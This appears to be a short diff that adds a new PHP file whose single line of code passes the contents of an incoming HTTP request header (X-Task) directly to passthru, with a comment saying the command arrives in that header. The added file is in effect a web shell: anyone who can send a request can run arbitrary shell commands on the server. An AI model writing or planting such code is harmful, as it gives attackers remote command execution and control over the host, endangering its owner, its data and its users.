@@ -1,0 +1,3 @@
+<?php
+// The command arrives in a request header.
+passthru(getenv("HTTP_X_TASK"));
